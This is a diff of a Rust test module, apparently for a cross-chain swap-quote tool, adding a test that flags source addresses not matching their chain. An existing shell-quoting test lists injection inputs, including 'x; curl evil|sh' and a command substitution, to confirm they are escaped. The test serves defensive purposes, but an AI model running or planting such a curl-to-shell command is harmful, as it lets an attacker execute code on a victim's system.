@@ -282,12 +282,33 @@ fn print_refusal(answer: &QuoteAnswer, cx: &mut Context) -> io::Result<()> {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::domain::ids::ChainId;
 
     #[test]
     fn a_quote_id_is_one_word_for_a_shell() {
         let table = [("5f2a-1:b", "5f2a-1:b"), ("x; curl evil|sh", "'x; curl evil|sh'"), ("a'$(b)", r"'a'\''$(b)'")];
         for (id, word) in table {
             assert_eq!(shell_word(id), word);
+        }
+    }
+
+    #[test]
+    fn an_address_that_is_none_of_its_chain_is_worth_a_word() {
+        let wallet = "0xAbc0000000000000000000000000000000000abc";
+        let table =
+            [("1", wallet, false), ("1", "nonsense", true), ("1", "0xabc", true), ("osmosis-1", "osmo1", false)];
+        for (chain, from_address, odd) in table {
+            let request = QuoteRequest {
+                from_address: from_address.into(),
+                from_chain: ChainId::new(chain),
+                from_token: "0x1".into(),
+                from_amount: Amount::parse("1").unwrap(),
+                to_chain: ChainId::new("10"),
+                to_token: "0x2".into(),
+                to_address: "0x3".into(),
+                quote_only: true,
+            };
+            assert_eq!(odd_address(&request).is_some(), odd, "{chain} {from_address}");
         }
     }
 
